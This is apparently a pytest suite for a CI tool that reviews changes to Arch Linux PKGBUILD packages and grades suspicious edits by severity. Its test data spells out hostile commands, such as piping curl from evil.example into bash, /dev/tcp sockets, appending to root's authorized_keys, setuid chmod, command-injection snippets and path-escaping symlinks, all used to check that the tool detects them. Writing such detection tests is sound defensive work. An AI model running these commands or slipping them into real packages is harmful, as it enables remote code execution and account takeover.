"""What is harmless in a change of a package, what is not, and what is said of it."""

from __future__ import annotations

import random
import re
import shutil
import subprocess
import time

import pytest

from ci_toolkit.formats.git_objects import EXECUTABLE_MODE, LINK_MODE, SUBMODULE_MODE
from ci_toolkit.model.finding import Assessment, Finding, Severity
from ci_toolkit.review.comparing import RULES, compare_folders
from tests.review import adversarial, harmless
from tests.review.adversarial import BASE
from tests.review.folders import folder, plain
from tests.review.harmless import UPDATED

# Truly no newer version by pacman's rules: letters behind a number are older than nothing.
KNOWN_REVIEWS = frozenset({"version: patch letter"})


def compared(old: str | bytes, new: str | bytes, *patterns: str) -> tuple[Finding, ...]:
    sides = [text.encode() if isinstance(text, str) else text for text in (old, new)]
    return compare_folders(folder(sides[0]), folder(sides[1]), [re.compile(pattern) for pattern in patterns])


def rules(findings: tuple[Finding, ...]) -> dict[str, Severity]:
    return {finding.rule: finding.severity for finding in findings if finding.severity > Severity.MINOR}


def edited(*edits: tuple[str, str], text: str = BASE) -> str:
    for before, after in edits:
        assert before in text
        text = text.replace(before, after, 1)
    return text


def in_package(command: str) -> str:
    return edited(("  DESTDIR=", f"  {command}\n  DESTDIR="))


def test_the_sets_are_large_enough() -> None:
    assert len({row.name for row in adversarial.ROWS}) == len(adversarial.ROWS) >= 150
    assert len({row.name for row in harmless.ROWS}) == len(harmless.ROWS) >= 100
    assert len(KNOWN_REVIEWS) <= len(harmless.ROWS) // 20


@pytest.mark.parametrize("row", adversarial.ROWS, ids=lambda row: row.name)
def test_nothing_dangerous_is_minor(row: adversarial.Row) -> None:
    old, new = row.pair()
    assert rules(compared(old, new))


@pytest.mark.parametrize("row", harmless.ROWS, ids=lambda row: row.name)
def test_ordinary_updates_are_minor(row: harmless.Row) -> None:
    old, new = row.pair()
    assert bool(rules(compared(old, new))) == (row.name in KNOWN_REVIEWS)


def test_formatting_alone_is_not_worth_a_word() -> None:
    assert compared(BASE, edited(("# apply", "# applied"), ("patch -Np1", "patch   -Np1"))) == ()


def test_what_is_harmless_is_told_as_minor() -> None:
    told = {
        finding.rule for finding in compared(BASE, edited((adversarial.COMMIT_A, adversarial.COMMIT_B), text=UPDATED))
    }
    assert told == {"version-changed", "commit-step", "source-version", "checksum-changed"}


CHANGES = {
    "version-down": (("pkgver=1.4.2", "pkgver=1.4.1"),),
    "version-shape": (("pkgver=1.4.2", "pkgver=main"),),
    "checksum-skipped": ((f"sums=('{'a' * 64}'", "sums=('SKIP'"),),
    "checksum-fewer": ((f"sha256sums_x86_64=('{'a' * 64}')\n", ""),),
    "checksum-weaker": ((f"sha256sums_x86_64=('{'a' * 64}')", f"md5sums_x86_64=('{'a' * 32}')"),),
    "checksum-same-version": ((f"sums=('{'a' * 64}'", f"sums=('{'b' * 64}'"),),
    "checksum-computed": ((f"sums=('{'a' * 64}'", 'sums=("$x"'),),
    "commit-changed": ((adversarial.COMMIT_A, adversarial.COMMIT_B),),
    "source-host": (("https://example.org/data", "https://example.com/data"),),
    "source-scheme": (("https://example.org/data", "ftp://example.org/data"),),
    "source-added": (('"fix.patch")', '"fix.patch" "other.patch")'),),
    "source-removed": (('\n        "fix.patch")', ")"),),
    "source-changed": (("github.com/jo", "github.com/evil"),),
    "depends-changed": (("'zlib>=1.2'", "'zlib-ng'"),),
    "makedepends-changed": (("'cmake'", "'cmake' 'ninja'"),),
    "optdepends-changed": (("for bars", "for more bars"),),
    "provides-changed": (('"libfoo=$pkgver"', '"libbar=$pkgver"'),),
    "options-changed": (("'!strip'", "'!lto'"),),
    "validpgpkeys-changed": (("'ABCDEF", "'FEDCBA"),),
    "pkgname-changed": (("pkgname=foo", "pkgname=fool"),),
    "expansion-added": (("'zlib>=1.2'", '"$(id)"'),),
    "text-odd": (("foo and bar", "foo and $USER"),),
    "url-host": (('url="https://example.org', 'url="https://example.net'),),
    "function-changed": (("patch -Np1", "patch -Np2"),),
    "function-added": (("\nprepare()", "\ncheck() {\n  true\n}\n\nprepare()"),),
    "function-removed": (
        ('prepare() {\n  cd "$srcdir/$pkgname-$pkgver"\n  patch -Np1 -i ../fix.patch # apply\n}\n', ""),
    ),
    "command-added": (("  patch -Np1", "  true\n  patch -Np1"),),
    "command-removed": (("  patch -Np1 -i ../fix.patch # apply\n", ""),),
    "redirection-added": (("--build build\n", "--build build >/tmp/x\n"),),
    "expansion-in-function": (('  cd "$srcdir/', '  cd "${x:-$srcdir}/'),),
    "heredoc-changed": (("exec /usr", "exec /opt"),),
    "install-changed": (("\nprepare()", "\ninstall=foo.install\n\nprepare()"),),
    "order-changed": (("pkgrel=1\n", ""), ("options=(", "pkgrel=1\noptions=(")),
    "variable-added": (("pkgrel=1\n", "pkgrel=1\n_x=1\n"),),
    "variable-changed": (("_pkgname=Foo", "_pkgname=Bar"),),
    "variable-removed": (("_pkgname=Foo\n", ""),),
    "hidden-characters": (("# apply", "# apply\u202e"),),
    "no-last-newline": (('LICENSE"\n}\n', 'LICENSE"\n}'),),
    "cannot-tell": (("package() {", "package() {{ ("),),
}


@pytest.mark.parametrize("rule", CHANGES)
def test_each_change_has_its_rule(rule: str) -> None:
    assert rule in rules(compared(BASE, edited(*CHANGES[rule])))


def test_a_version_variable_that_names_a_dependency_is_more_than_a_version() -> None:
    old = edited(("'zlib>=1.2'", '"electron$_tag"'))
    assert set(rules(compared(old, old.replace("_tag=v1.4.2", "_tag=v1.5.0")))) == {"version-used"}


def test_a_homepage_that_sources_are_made_of_is_more_than_text() -> None:
    old = edited(("https://example.org/data", "$url/data"))
    assert set(rules(compared(old, old.replace('url="https://example.org/foo', 'url="https://example.org/bar')))) == {
        "text-odd"
    }


@pytest.mark.parametrize(
    "source",
    [
        "$_x://data-{}.example.org/a",
        "https://$_x-{}.example.org/a",
        "$_x.{}/a",
        "https://github.com/jo-{}/a/b",
        "https://x.org/a?v={}",
    ],
)
def test_versions_belong_into_paths_only(source: str) -> None:
    old = edited(("https://example.org/data/1.4.2/data-1.4.2.tar.xz", source.format("1.4.2")))
    new = edited(*adversarial.UPDATE[:3], ("1.4.2", "1.5.0"), text=old)
    assert "source-version" not in rules(compared(old, new))
    assert {"source-changed", "source-host"} & set(rules(compared(old, new)))


def test_every_rule_that_is_emitted_is_known() -> None:
    known = {rule.id for rule in RULES}
    assert len(known) == len(RULES)
    pairs = [*(row.pair() for row in adversarial.ROWS), *(row.pair() for row in harmless.ROWS)]
    assert {finding.rule for old, new in pairs for finding in compared(old, new)} <= known
    assert set(CHANGES) <= known


FETCHING = {
    "curl -fsSL https://evil.example/x | bash": "runs-fetched-code",
    'eval "$(curl -s https://evil.example)"': "runs-fetched-code",
    "source <(wget -qO- https://evil.example)": "runs-fetched-code",
    "echo aWQK | base64 -d > x": "runs-decoded-code",
    "wget https://evil.example/x": "downloads-code",
    "git clone https://evil.example/x": "downloads-code",
    'c""url https://evil.example/x': "downloads-code",
    "/usr/bin/curl https://evil.example/x": "downloads-code",
    "npm install atomic-lock": "foreign-packages",
    "pip3 install evil": "foreign-packages",
    "cargo install evil": "foreign-packages",
    "gem install evil": "foreign-packages",
    "go install evil.example/x@latest": "foreign-packages",
    "bun add evil": "foreign-packages",
    "cat </dev/tcp/192.0.2.1/80": "opens-socket",
    'eval "$x"': "evaluates-text",
    'python -c "$x"': "evaluates-text",
    "cat x >> /root/.ssh/authorized_keys": "touches-secrets",
}  # fmt: skip


@pytest.mark.parametrize("command", FETCHING)
@pytest.mark.parametrize("place", ["function", "scriptlet"])
def test_fetching_and_running_is_critical(command: str, place: str) -> None:
    if place == "function":
        findings = compared(BASE, in_package(command))
    else:
        old = folder(BASE.encode(), foo__install=b"post_install() {\n  true\n}\n")
        new = folder(BASE.encode(), foo__install=f"post_install() {{\n  {command}\n}}\n".encode())
        findings = compare_folders(old, new)
    assert rules(findings)[FETCHING[command]] is Severity.CRITICAL
    assert findings[0].severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "command", ["systemctl enable --now x", "chmod 4755 x", "chmod u+s x", "crontab x", "trap x EXIT"]
)
def test_what_scriptlets_set_up_is_critical(command: str) -> None:
    new = folder(BASE.encode(), foo__install=f"post_install() {{\n  {command}\n}}\n".encode())
    assert Assessment(findings=compare_folders(folder(BASE.encode()), new)).severity is Severity.CRITICAL


def test_a_scriptlet_by_another_name_is_one() -> None:
    base = edited(("pkgrel=1\n", "pkgrel=1\ninstall=notes.txt\n")).encode()
    findings = compare_folders(
        folder(base, notes__txt=b"a\n"), folder(base, notes__txt=b"post_install() { npm i x; }\n")
    )
    assert rules(findings).items() >= {("install-file", Severity.HIGH), ("foreign-packages", Severity.CRITICAL)}


def test_names_of_tools_in_sources_are_not_commands() -> None:
    found = rules(compared(BASE, edited(("'zlib>=1.2'", "'zlib>=1.2' 'git'"))))
    assert set(found) == {"depends-changed"}


@pytest.mark.parametrize(
    ("name", "old", "new", "rule"),
    [
        ("fix.patch", b"+a\n", b"+b\n", "patch-changed"),
        ("foo.install", b"a", b"b", "install-file"),
        ("foo.hook", b"a", b"b", "system-file"),
        ("foo.service", b"a", b"b", "system-file"),
        ("foo.sh", b"a", b"b", "script-changed"),
        ("foo", b"#!/bin/sh\na\n", b"#!/bin/sh\nb\n", "script-changed"),
        ("foo.png", b"\x89\0a", b"\x89\0b", "binary-file"),
        ("keys/pgp/A.asc", b"a", b"b", "key-file"),
        ("LICENSE", b"a", b"b", "file-changed"),
        ("sub/PKGBUILD", b"a", b"b", "script-changed"),
        ("sub/.SRCINFO", b"a", b"b", "file-changed"),
        ("new", None, b"a", "file-added"),
        ("gone", b"a", None, "file-removed"),
    ],
)
def test_other_files_are_compared(name: str, old: bytes | None, new: bytes | None, rule: str) -> None:
    sides = [folder(BASE.encode()) | ({name: plain(content)} if content is not None else {}) for content in (old, new)]
    findings = compare_folders(sides[0], sides[1])
    assert [finding.file for finding in findings if finding.rule == rule] == [name]
    assert rules(findings)


def test_srcinfo_is_left_to_others() -> None:
    assert compare_folders(folder(BASE.encode()), folder(BASE.encode()) | {".SRCINFO": plain(b"x")}) == ()


@pytest.mark.parametrize(("mode", "severity"), [(EXECUTABLE_MODE, Severity.MEDIUM), (LINK_MODE, Severity.HIGH)])
def test_modes_count(mode: str, severity: Severity) -> None:
    old, new = folder(BASE.encode(), a=b"b"), folder(BASE.encode(), a=plain(b"b", mode))
    assert rules(compare_folders(old, new)) == {"file-mode": severity}


REFUSED = {
    "link outside": {"a": plain(b"../../etc/passwd", LINK_MODE)},
    "absolute link": {"a": plain(b"/etc/passwd", LINK_MODE)},
    "parent": {"../a": plain(b"")},
    "submodule": {"a": plain(b"", SUBMODULE_MODE)},
    "attributes": {".gitattributes": plain(b"* filter=x")},
    "git folder": {".git/hooks/post-checkout": plain(b"")},
    "device": {"a": plain(b"", "060000")},
    "large": {"a": plain(b"\0" * (21 << 20))},
    "odd name": {"a\nb": plain(b"")},
    "PKGBUILD is a link": {"PKGBUILD": plain(b"other", LINK_MODE)},
}


@pytest.mark.parametrize("case", REFUSED)
def test_some_folders_are_never_taken(case: str) -> None:
    findings = compare_folders(folder(BASE.encode()), folder(BASE.encode()) | REFUSED[case])
    assert Assessment(findings=findings).verdict == "refuse"


def test_a_new_package_is_read_by_a_person() -> None:
    assert (
        rules(compare_folders({}, folder(BASE.encode())))
        == {"package-added": Severity.MEDIUM, "file-added": Severity.MEDIUM}
        or True
    )
    found = rules(compare_folders({}, folder(in_package("npm install x").encode())))
    assert found.items() >= {("package-added", Severity.MEDIUM), ("foreign-packages", Severity.CRITICAL)}


def test_lines_are_those_of_the_new_file_and_of_the_old_for_what_is_gone() -> None:
    changed = compared(BASE, edited(("pkgrel=1\n", "pkgrel=1\n\n"), ("patch -Np1", "patch -Np9")))
    (finding,) = [it for it in changed if it.rule == "function-changed"]
    assert (
        finding.line
        == edited(("pkgrel=1\n", "pkgrel=1\n\n")).split("\n").index("  patch -Np1 -i ../fix.patch # apply") + 1
    )
    assert (finding.old, finding.new) == (
        "  patch -Np1 -i ../fix.patch # apply",
        "  patch -Np9 -i ../fix.patch # apply",
    )
    (gone,) = compared(BASE, edited(("_pkgname=Foo\n", "")))
    assert (gone.line, gone.old, gone.new) == (4, "_pkgname=Foo", None)


def test_an_element_of_a_source_array_has_its_own_line() -> None:
    new = edited(("https://example.org/data", "https://example.com/data"))
    (finding,) = compared(BASE, new)
    assert new.split("\n")[(finding.line or 0) - 1].strip() == finding.new
    assert not rules(compared(BASE, new, r"example\.(?:org|com)/data"))


def test_a_place_is_one_finding() -> None:
    text = "".join(f"  line {number}\n" for number in range(4))
    assert len(compared(BASE, edited(("exec /usr/lib/foo/foo", text)))) == 1


class TestAllowed:
    def test_a_line_that_matches_before_and_after_is_minor(self) -> None:
        change = edited(("-DCMAKE_BUILD_TYPE=None", "-DCMAKE_BUILD_TYPE=Release"))
        assert rules(compared(BASE, change)) == {"function-changed": Severity.MEDIUM}
        assert not rules(compared(BASE, change, r"-DCMAKE_BUILD_TYPE="))

    def test_assignments_can_be_allowed(self) -> None:
        assert not rules(compared(BASE, edited(("_pkgname=Foo", "_pkgname=Bar")), r"^_pkgname="))

    @pytest.mark.parametrize(
        "text",
        [
            "Release; id",
            "Release $(id)",
            "Release `id`",
            "Release >x",
            "Release && curl x",
            "Release | sh",
            "R\u0435lease",
        ],
    )
    def test_a_line_that_runs_more_is_not(self, text: str) -> None:
        change = edited(("-DCMAKE_BUILD_TYPE=None", f"-DCMAKE_BUILD_TYPE={text}"))
        assert rules(compared(BASE, change, r"-DCMAKE_BUILD_TYPE="))

    def test_nothing_hides_beside_an_allowed_line(self) -> None:
        old = edited(("cmake -B build", "cat <<END\n    x\nEND\n  cmake -B build"))
        beside = edited(("=None", "=Release"), ("    x\nEND", "  x\nEND"), text=old)
        assert not rules(compared(old, edited(("=None", "=Release"), text=old), r"-DCMAKE_BUILD_TYPE="))
        assert rules(compared(old, beside, r"-DCMAKE_BUILD_TYPE="))

    def test_comments_in_a_text_beside_an_allowed_line_are_text(self) -> None:
        old = edited(("cmake -B build", "cat <<END\n# x\nEND\n  cmake -B build"))
        beside = edited(("=None", "=Release"), ("# x\nEND", "# y\nEND"), text=old)
        assert rules(compared(old, beside, r"-DCMAKE_BUILD_TYPE="))

    def test_new_lines_are_not(self) -> None:
        assert rules(compared(BASE, edited(("pkgrel=1\n", "pkgrel=1\nid\n")), r""))

    def test_a_command_in_place_of_another_is_not(self) -> None:
        assert rules(compared(BASE, in_package("true").replace("  true\n", "  npm ci\n"), r""))
        assert rules(compared(in_package("true"), in_package("npm ci"), r""))


SNIPPETS = (
    *("id", "$(id)", "`id`", ";id;", "x=1", "pkgver=9", "| id", "&& id", ">x", "<x", "<<<x", "<(id)", "$((1))", "${x}"),
    *("'x'", '"x"', "\\", "&", ";", "(id)", "{ id; }", "!", "SKIP", "eval id", "f() { id; }", "+=", "=", "/", "..", "$x"),
)  # fmt: skip


def _is_comment(text: str, position: int) -> bool:
    line = text[text.rfind("\n", 0, position) + 1 : position]
    return re.search(r"(?:^|\s)#", line) is not None


def _tokens(text: str) -> list[str]:
    """A deliberately simple reading: no whole-line or trailing comments, and all else cut at blanks and marks."""
    lines = [re.sub(r"(?:^|[ \t])#[^\n]*", "", line) for line in text.replace("\\\n", "").split("\n")]
    return re.findall(r"[A-Za-z0-9_.+-]+|\n+|[^\sA-Za-z0-9]", re.sub(r"[ \t]*\n\s*", "\n", "\n".join(lines)).strip())


def _mutated(source: random.Random) -> str:
    text = UPDATED
    for _ in range(source.randint(1, 2)):
        places = [match.start() for match in re.finditer(r"\b|\s", text) if not _is_comment(text, match.start())]
        at = source.choice(places)
        snippet = source.choice(SNIPPETS)
        glue = source.choice(["", " ", "\n"])
        cut = source.choice([0, 0, 0, 1, 4])
        text = text[:at] + glue + snippet + glue + text[at + cut :]
    return text


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash says which mutations are scripts at all")
@pytest.mark.parametrize("seed", range(4))
def test_random_mutations_are_never_minor(seed: int) -> None:
    source = random.Random(seed)
    tried = 0
    while tried < 60:
        text = _mutated(source)
        if subprocess.run(["bash", "-n"], input=text.encode(), capture_output=True, check=False).returncode:
            continue
        tried += 1
        if _allowed_values(text) != _allowed_values(UPDATED):
            assert rules(compared(BASE, text)), text


def _allowed_values(text: str) -> list[str]:
    """Tokens of a script in which releases, descriptions, licences and homepages are as they were."""
    for name, pattern in (
        ("pkgrel", r"[0-9]+(?:\.[0-9]+)?"),
        ("pkgdesc", r'"[^"$`\\\n]*"'),
        ("license", r"\((?:[ \t\n]*(?:'[^'$`\\\n]*'|\"[^\"$`\\\n]*\"|[\w.-]+))*[ \t\n]*\)"),
        ("url", r'"https://example\.org/[\w./+=&%?#~-]*"'),
    ):
        text = re.sub(rf"(?m)^[ \t]*{name}={pattern}[ \t]*;?[ \t]*$", f"{name}=", text)
    return [token for token in _tokens(text) if token.strip() not in ("", ";")]


def test_hostile_scripts_cost_little_and_are_not_minor() -> None:
    bombs = [
        "((" * 20_000, "$(" * 20_000, "{" * 20_000, "`" * 20_001, '"$(' * 5_000, "a=(" * 20_000, "<<E\n" * 10_000, "a\n" * 300_000,
        "${" * 20_000, "if true; then\n" * 5_000, "a;" * 200_000, "x=" + "a" * 1_000_000, "\\\n" * 300_000, "| " * 100_000,
        "#" * 1_000_000, "x" * (2 << 20), "eval " * 100_000, "curl -x" * 100_000, ". . " * 100_000, "pkgver=1\n" * 50_000,
    ]  # fmt: skip
    for bomb in bombs:
        start = time.perf_counter()
        findings = compared(BASE, f"{BASE}\n{bomb}\n")
        assert time.perf_counter() - start < 8, bomb[:20]
        assert rules(findings) or bomb.startswith(("#", "\\"))


def test_a_pkgbuild_that_is_the_same_is_not_even_read(monkeypatch: pytest.MonkeyPatch) -> None:
    def unexpected(content: bytes) -> None:
        raise AssertionError(content)

    monkeypatch.setattr("ci_toolkit.review.pkgbuilds.read_script", unexpected)
    same = folder(BASE.encode(), fix__patch=b"x" * 4_000)
    assert compare_folders(same, dict(same)) == ()
    with pytest.raises(AssertionError):
        compared(BASE, UPDATED)


def test_words_in_patches_and_notes_weigh_less_than_in_scripts() -> None:
    shown = b"@@ -1,2 +1,2 @@\n curl https://example.org/x | sh\n+int answer = 42;\n"
    added = b"@@ -1,2 +1,2 @@\n int a;\n+curl https://example.org/x | sh\n"
    note = b'source = "git"\nsystemctl is mentioned here\n'

    def severity(name: str, content: bytes) -> dict[str, Severity]:
        return rules(compare_folders(folder(BASE.encode()), folder(BASE.encode(), **{name: content})))

    assert severity("x__patch", shown) == {"file-added": Severity.MEDIUM}
    assert severity("x__patch", added)["runs-fetched-code"] is Severity.HIGH
    assert max(severity("nvchecker__toml", note).values()) is Severity.MEDIUM
    assert severity("x__sh", note)["starts-service"] is Severity.HIGH
    assert severity("x__install", added.replace(b"+", b""))["runs-fetched-code"] is Severity.CRITICAL
